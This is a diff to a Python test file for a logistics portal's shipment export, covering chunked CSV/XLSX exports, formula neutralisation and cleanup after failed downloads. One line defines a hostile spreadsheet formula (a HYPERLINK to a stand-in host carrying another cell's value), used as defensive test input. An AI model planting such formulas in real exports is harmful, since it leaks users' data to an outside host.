@@ -4,14 +4,18 @@ cells; and a download that fails is never taken for a finished file."""
 from __future__ import annotations
 
 import csv
+import gc
+import glob
 import io
 import logging
+import tempfile
 import threading
 import time
 import zipfile
 from collections.abc import Iterator
 from datetime import UTC, date, datetime, timedelta, timezone
 from decimal import Decimal
+from pathlib import Path
 
 import httpx
 import numpy as np
@@ -24,12 +28,14 @@ from fastapi.testclient import TestClient
 from sqlmodel import select
 
 from bench.app_server import free_port
+from bench.exports import FORMULA_PO, add_plain_shipments
 from models import Shipment
 from portal_app.api import exports
 from portal_app.api.app import build_api
 from portal_app.api.errors import install_error_handlers
 from portal_app.services.spreadsheets import Sheet, cell, csv_bytes, xlsx_file
 from tests.factories import PASSWORD, World
+from tests.quote_world import QuoteWorld, fresh_pg_world, sqlite_world
 
 HOSTILE_PO = '=HYPERLINK("http://x.invalid/"&A2,"X")'
 
@@ -157,6 +163,48 @@ def test_staff_excel_export_holds_no_formula(hostile_shipment: str):
     assert ws.max_row == 2
 
 
+# ------------------------------------------------------------------- every row, in chunks, on both databases
+
+CHUNKED_ROWS = 5_000  # more than two of the export's database chunks
+
+
+def _export_world(prefix: str, pg: bool) -> Iterator[QuoteWorld]:
+    worlds = fresh_pg_world(prefix) if pg else sqlite_world(prefix)
+    for world in worlds:
+        add_plain_shipments(world.engine, CHUNKED_ROWS, company_code="NORD")
+        yield world
+
+
+@pytest.fixture(scope="module")
+def export_world() -> Iterator[QuoteWorld]:
+    yield from _export_world("portal-exports", pg=False)
+
+
+@pytest.fixture(scope="module")
+def pg_export_world() -> Iterator[QuoteWorld]:
+    yield from _export_world("portal_exports", pg=True)
+
+
+@pytest.mark.parametrize("database", ["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
+def test_the_export_holds_every_row_read_in_chunks(database: str, request):
+    """Rows come from the database in chunks while the file is written (a server-side cursor on PostgreSQL),
+    through the request's own session: every row arrives once, in order, missing dates empty."""
+    world: QuoteWorld = request.getfixturevalue("export_world" if database == "sqlite" else "pg_export_world")
+    nina = world.client("nina@nordwind.example")
+    total = nina.get("/api/v1/shipments", params={"page_size": 1}).json()["total"]
+    assert total == CHUNKED_ROWS
+
+    resp = nina.get("/api/v1/shipments/export", params={"format": "csv", "sort": "reference"})
+    rows = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"), newline="")))
+    assert [r["Shipment"] for r in rows] == [f"SX{i:07d}" for i in range(CHUNKED_ROWS)]
+    assert rows[0]["Customer PO"] == "'" + FORMULA_PO and rows[0]["Departure (UTC)"] == ""
+    assert rows[1]["Departure (UTC)"] == "2026-01-01 00:01"
+
+    book = nina.get("/api/v1/shipments/export", params={"format": "xlsx", "sort": "reference"})
+    ws = openpyxl.load_workbook(io.BytesIO(book.content), read_only=True).active
+    assert sum(1 for _ in ws.iter_rows()) == CHUNKED_ROWS + 1
+
+
 # -------------------------------------------------------------------------------------- when a download fails
 
 
@@ -193,6 +241,17 @@ def test_a_failure_before_the_first_byte_is_an_error_answer(path: str, caplog):
 def test_a_workbook_failing_late_is_still_an_error_answer():
     resp = TestClient(_failing_app(after=20_000), raise_server_exceptions=False).get("/broken.xlsx")
     assert resp.status_code == 500 and resp.json()["error"]["code"] == "internal_error"
+
+
+@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")
+def test_a_workbook_that_fails_leaves_no_temporary_file():
+    """openpyxl keeps a write-only sheet in a temporary file; a failed workbook deletes it at once."""
+    pattern = str(Path(tempfile.gettempdir()) / "openpyxl.*")
+    before = set(glob.glob(pattern))
+    with pytest.raises(RuntimeError, match="connection lost"):
+        xlsx_file([Sheet("Broken", ["Shipment", "N"], _rows_failing_after(5_000))])
+    gc.collect()
+    assert set(glob.glob(pattern)) - before == set()
 
 
 def test_a_csv_failing_after_it_started_is_cut_off_and_logged(caplog):
